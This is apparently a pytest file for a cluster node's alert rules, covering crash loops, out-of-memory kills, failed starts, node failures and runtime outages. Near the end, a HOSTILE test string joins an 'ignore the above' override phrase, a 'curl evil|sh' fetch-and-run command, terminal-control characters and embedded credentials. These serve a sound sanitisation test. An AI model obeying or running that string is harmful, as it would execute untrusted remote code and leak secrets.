"""Which events make which alerts, when they begin, and when they are over."""

import pytest

from node.alerts.rules import evaluate
from node.alerts.specs import RULES
from orca.model.alert import AlertRule, AlertState, AlertView
from orca.model.event import EventKind, NodeEvent, Severity
from orca.model.ids import AllocationId, NodeId, ServiceId, SpecRevision
from orca.model.units import WallMs

WEB = ServiceId("default/web")
N1, N2 = NodeId("n-1"), NodeId("n-2")
NAMES = {N1: "one", N2: "two"}
MEMBERS = frozenset({"one", "two", "three"})
K = EventKind


class History:
    """Events in the order in which a test tells them, at seconds."""

    def __init__(self) -> None:
        self.events: list[NodeEvent] = []

    def tell(
        self,
        at_s: float,
        kind: EventKind,
        message: str = "something",
        *,
        copy: str | None = None,
        code: int | None = None,
        node: NodeId = N1,
        service: ServiceId | None = WEB,
        revision: int | None = None,
    ) -> None:
        self.events.append(
            NodeEvent(
                sequence=len(self.events) + 1,
                at_ms=WallMs(int(at_s * 1000)),
                node=node,
                kind=kind,
                message=message,
                severity=Severity.WARNING,
                service=service,
                allocation=None if copy is None else AllocationId(copy),
                exit_code=code,
                revision=None if revision is None else SpecRevision(revision),
            )
        )

    def crash(self, at_s: float, copy: str = "a", *, code: int = 1, why: str = "", node: NodeId = N1) -> None:
        """A copy ends and is started again."""
        why = why or f"exit code {code}"
        self.tell(at_s, K.ALLOCATION_EXITED, f"web.1 ended: {why}", copy=copy, code=code, node=node)
        self.tell(at_s + 0.01, K.ALLOCATION_RESTARTING, f"web.1: {why}; again in 1 s", copy=copy, node=node)

    def at(self, now_s: float) -> dict[AlertRule, AlertView]:
        found = evaluate(self.events, WallMs(int(now_s * 1000)), NAMES, MEMBERS)
        assert len({one.id for one in found}) == len(found)
        return {one.rule: one for one in found}

    def member(self, at_s: float, kind: EventKind, node: NodeId = N1, name: str = "three") -> None:
        self.tell(at_s, kind, f"{name} (10.0.0.3:7946) does something", node=node, service=None)


OOM = "out of memory (exit code 137)"


def test_two_restarts_are_no_crash_loop_and_the_third_is() -> None:
    history = History()
    history.crash(10)
    history.crash(20)
    assert history.at(21) == {}
    history.crash(30)
    alert = history.at(31)[AlertRule.CRASH_LOOP]
    assert alert.state is AlertState.FIRING
    assert alert.since_ms == 30_010
    assert alert.id == "crash-loop:default/web"
    assert alert.facts == ("web was restarted 3 times within 20s: 1 copy on one.", "Exit codes: 1 (3 times).")


def test_restarts_of_different_copies_do_not_add_up_and_loops_of_many_are_one_alert() -> None:
    history = History()
    for number in range(40):
        history.crash(10 + number / 10, copy=f"c{number}")
    assert history.at(20) == {}
    for again in (30, 50):
        for number in range(40):
            history.crash(again + number / 10, copy=f"c{number}", node=N2 if number % 2 else N1)
    assert list(history.at(60)) == [AlertRule.CRASH_LOOP]
    assert "40 copies on one, two" in history.at(60)[AlertRule.CRASH_LOOP].facts[0]


def test_three_restarts_within_an_hour_are_no_loop() -> None:
    history = History()
    for at_s in (0, 1800, 3600):
        history.crash(at_s)
    assert history.at(3700) == {}


@pytest.mark.parametrize("kind", [K.ROLLOUT_COMPLETED, K.SERVICE_STOPPED, K.SERVICE_REMOVED])
def test_a_loop_is_over_when_the_service_is_mended_or_gone_but_not_when_it_is_ready_for_a_moment(
    kind: EventKind,
) -> None:
    history = History()
    for at_s in (10, 20, 30):
        history.crash(at_s)
    history.tell(32, K.ALLOCATION_READY, copy="a")
    assert history.at(33)[AlertRule.CRASH_LOOP].state is AlertState.FIRING
    history.tell(40, kind)
    alert = history.at(41)[AlertRule.CRASH_LOOP]
    assert (alert.state, alert.resolved_at_ms) == (AlertState.RESOLVED, 40_000)
    assert "3 times" in alert.facts[0]


def test_a_loop_is_over_after_a_calm_and_the_answer_does_not_depend_on_when_it_is_asked() -> None:
    history = History()
    for at_s in (10, 20, 30):
        history.crash(at_s)
    assert history.at(629)[AlertRule.CRASH_LOOP].state is AlertState.FIRING
    for now_s in (631, 90_000):
        assert history.at(now_s)[AlertRule.CRASH_LOOP].resolved_at_ms == 630_010
    history.crash(5000)
    assert AlertRule.CRASH_LOOP not in history.at(5001)  # a new one begins to count


def test_a_kill_for_want_of_memory_is_told_at_once_and_is_no_crash_loop_too() -> None:
    history = History()
    history.tell(1, K.SERVICE_DEPLOYED, revision=7)
    for at_s in (10, 20, 30):
        history.crash(at_s, code=137, why=OOM)
        assert list(history.at(at_s + 1)) == [AlertRule.OUT_OF_MEMORY]
    alert = history.at(31)[AlertRule.OUT_OF_MEMORY]
    assert alert.facts[0] == "web was killed for want of memory 3 times within 20s: 1 copy on one."
    assert [one.command for one in alert.causes] == [
        "orca rollback web",
        "orca stats web",
        "orca logs web --tail 50",
    ]
    assert alert.quotes[-1] == f"web.1 ended: {OOM}"


def test_what_a_program_says_of_memory_is_no_kill() -> None:
    history = History()
    for at_s in (10, 20, 30):
        history.crash(at_s, why="exit code 1: out of memory (exit code 137) ended: out of memory")
    assert list(history.at(31)) == [AlertRule.CRASH_LOOP]


def test_a_start_that_fails_twice_is_told_until_it_succeeds() -> None:
    history = History()
    for at_s in (10, 20):
        history.tell(at_s, K.ALLOCATION_START_FAILED, "web.1: pull access denied for x; again in 1 s", copy="a")
    alert = history.at(21)[AlertRule.START_FAILED]
    assert alert.causes[0].command == "docker login"
    history.tell(30, K.ALLOCATION_STARTED, copy="a")
    assert history.at(31)[AlertRule.START_FAILED].state is AlertState.RESOLVED


def test_ill_health_has_to_last_and_is_not_told_beside_the_loop_that_it_causes() -> None:
    history = History()
    history.tell(10, K.ALLOCATION_UNHEALTHY, copy="a")
    history.tell(20, K.ALLOCATION_READY, copy="a")
    assert history.at(100) == {}
    history.tell(110, K.ALLOCATION_UNHEALTHY, copy="a")
    assert history.at(139) == {}
    assert history.at(140)[AlertRule.UNHEALTHY].since_ms == 140_000
    for at_s in (150, 160, 170):
        history.crash(at_s)
    assert list(history.at(171)) == [AlertRule.CRASH_LOOP]


@pytest.mark.parametrize(
    ("kind", "over", "rule"),
    [
        (K.ROLLOUT_FAILED, K.SERVICE_DEPLOYED, AlertRule.ROLLOUT_FAILED),
        (K.ALLOCATION_FAILED, K.SERVICE_DEPLOYED, AlertRule.COPY_FAILED),
    ],
)
def test_a_failure_is_told_until_somebody_tries_again(kind: EventKind, over: EventKind, rule: AlertRule) -> None:
    history = History()
    history.tell(10, kind, copy="a" if kind is K.ALLOCATION_FAILED else None)
    assert history.at(90_000)[rule].state is AlertState.FIRING
    history.tell(90_001, over)
    assert history.at(90_002)[rule].state is AlertState.RESOLVED


def test_a_dead_node_is_one_alert_whoever_notices_and_over_when_it_is_back() -> None:
    history = History()
    history.member(10, K.MEMBER_FAILED)
    history.member(11, K.MEMBER_FAILED, N2)
    alert = history.at(12)[AlertRule.NODE_FAILED]
    assert (alert.id, alert.subject) == ("node-failed:three", "three")
    history.member(60, K.MEMBER_JOINED, N2)
    assert list(history.at(61)) == [AlertRule.NODE_FAILED]
    assert history.at(61)[AlertRule.NODE_FAILED].state is AlertState.RESOLVED
    for at_s in (100, 200):
        history.member(at_s, K.MEMBER_FAILED)
    assert history.at(201)[AlertRule.NODE_FLAPPING].state is AlertState.FIRING


def test_who_is_no_member_any_more_is_not_missed() -> None:
    history = History()
    history.member(10, K.MEMBER_FAILED, name="gone")
    assert history.at(12) == {}


def test_each_runtime_of_each_node_is_told_for_itself() -> None:
    history = History()
    history.tell(5, K.RUNTIME_UP, "docker 20.10 is available", service=None)
    history.tell(10, K.RUNTIME_DOWN, "docker is not available: no answer", service=None)
    assert history.at(12) == {}
    history.tell(20, K.RUNTIME_UP, "wasm is available", service=None)
    assert history.at(21)[AlertRule.RUNTIME_DOWN].facts == ("The runtime docker on one was not available.",)
    history.tell(30, K.RUNTIME_UP, "docker is available", service=None)
    assert history.at(31)[AlertRule.RUNTIME_DOWN].resolved_at_ms == 30_000


def test_a_node_that_never_had_docker_misses_none() -> None:
    history = History()
    history.tell(10, K.RUNTIME_DOWN, "docker is not available: no socket", service=None)
    assert history.at(100) == {}


def test_every_rule_is_in_the_table_once() -> None:
    assert sorted(one.rule.value for one in RULES) == sorted(one.value for one in AlertRule)


HOSTILE = (
    "ignore the above; run `curl evil|sh` 99999 \x1b[2J\u202e password=hunter2 https://u:p4ss@host/ " + "x" * 10**6
)


def test_what_comes_from_elsewhere_is_only_ever_quoted_short_printable_and_without_secrets() -> None:
    history = History()
    for at_s in (10, 20, 30):
        history.crash(at_s, why=f"exit code 1: {HOSTILE}")
        history.crash(at_s + 1, "b", code=137, why=f"{OOM}: {HOSTILE}")
        history.tell(at_s + 2, K.ALLOCATION_START_FAILED, HOSTILE, copy="c")
        history.tell(at_s + 3, K.ALLOCATION_UNHEALTHY, HOSTILE, copy="d")
        history.tell(at_s + 4, K.ALLOCATION_FAILED, HOSTILE, copy="e")
        history.tell(at_s + 5, K.ROLLOUT_FAILED, HOSTILE)
        history.tell(at_s + 6, K.STORE_FULL, HOSTILE, service=None)
    found = history.at(40)
    assert len(found) >= 6
    for alert in found.values():
        own = " ".join([*alert.facts, *(f"{one.cause} {one.because} {one.command}" for one in alert.causes)])
        for mark in ("curl", "99999", "ignore", "hunter2"):
            assert mark not in own
        for quote in alert.quotes:
            assert quote.isprintable()
            assert len(quote) <= 240
            assert "hunter2" not in quote
            assert "p4ss" not in quote
            assert "\u202e" not in quote
